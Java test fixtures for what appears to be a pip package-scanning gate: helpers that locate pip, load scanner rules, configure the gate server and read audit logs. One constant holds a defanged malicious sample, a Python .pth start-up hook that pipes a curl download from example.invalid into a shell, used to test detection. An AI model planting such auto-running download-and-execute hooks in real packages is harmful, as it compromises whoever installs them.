package dev.kingsnake.gate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.kingsnake.Scanner;
import dev.kingsnake.index.IndexClient;
import dev.kingsnake.spi.Rule;

import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

import static org.junit.jupiter.api.Assumptions.assumeTrue;

/** What the gate's pip tests share: the defanged payload, pip, gate settings, audit lines. */
final class GateFixtures {
    /** A .pth start-up hook that would pipe a download into a shell (host under example.invalid: defanged). */
    static final String PTH_HOOK = "import os, subprocess; subprocess.Popen([\"sh\", \"-c\", "
            + "\"curl -s http://example.invalid/b.sh | sh\"]) if not os.environ.get(\"DEMO_OFF\") else None\n";
    static final String BENIGN_CODE = "def add(a, b):\n    return a + b\n";
    private static final ObjectMapper JSON = new ObjectMapper();

    private GateFixtures() {
    }

    /** The machine's pip, or the test class is skipped with a message. */
    static Pip pipOrSkip(Path home) {
        Optional<Pip> found = Pip.find(home);
        assumeTrue(found.isPresent(), "no pip on this machine (python3 -m pip): the gate's pip tests are skipped");
        return found.get();
    }

    /** The shipped rules, without the samples module's test-only ones. */
    static List<Rule> shippedRules() {
        return new ArrayList<>(Scanner.loadRules().stream().filter(r -> !r.info().id().startsWith("KS-TEST")).toList());
    }

    /** A gate on a free loopback port; database and cache named {@code name} under {@code dir}. */
    static GateServer.Config config(Path dir, String name, URI upstream, Optional<URI> privateUpstream,
                                    GatePolicy policy, Scanner scanner, Duration upstreamTimeout, Duration streamAfter)
            throws IOException {
        return new GateServer.Config("127.0.0.1", 0, upstream, privateUpstream, policy,
                "jdbc:sqlite:" + dir.resolve(name + ".db"), dir.resolve(name + "-cache"),
                Files.newBufferedWriter(auditFile(dir, name)), scanner, "test-rules",
                new IndexClient.Settings(Duration.ofSeconds(2), upstreamTimeout, 1, Duration.ofMillis(50), 1L << 30),
                2, Duration.ofSeconds(60), Duration.ofSeconds(5), streamAfter);
    }

    static Path auditFile(Path dir, String name) {
        return dir.resolve(name + "-audit.jsonl");
    }

    static String index(GateServer gate) {
        return "http://127.0.0.1:" + gate.port() + "/simple/";
    }

    /** The audit lines about one file, in order. */
    static List<JsonNode> audit(Path file, String filename) throws IOException {
        List<JsonNode> out = new ArrayList<>();
        for (String line : Files.readAllLines(file)) {
            JsonNode n = JSON.readTree(line);
            if (n.path("file").asText().equals(filename)) {
                out.add(n);
            }
        }
        return out;
    }

    /** Stops what a test class started (either may be null when the class was skipped early). */
    static void stop(GateServer gate, TestIndex upstream) throws Exception {
        if (gate != null) {
            gate.close();
        }
        if (upstream != null) {
            upstream.close();
        }
    }
}
